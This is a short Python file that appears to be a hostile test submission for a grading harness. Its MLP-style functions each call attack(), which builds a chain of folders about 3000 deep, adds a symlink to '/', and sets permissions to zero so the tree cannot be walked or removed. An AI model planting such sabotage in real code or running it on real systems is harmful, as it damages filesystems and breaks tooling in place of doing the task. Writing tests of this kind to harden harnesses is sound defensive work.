# hostile: makes a chain of folders too deep to be walked, and closes them
# verdict: failed error crashed
# layers: each
import os


def attack():
    os.makedirs("chain", exist_ok=True)
    os.chdir("chain")
    for _ in range(3000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    try:
        os.symlink("/", "link")
    except OSError:
        pass
    os.chmod(".", 0)


def num_layers(params):
    attack()
    return 3


def mlp_forward(params, x):
    attack()
    return x


def init_mlp(key, sizes):
    attack()
    return {}
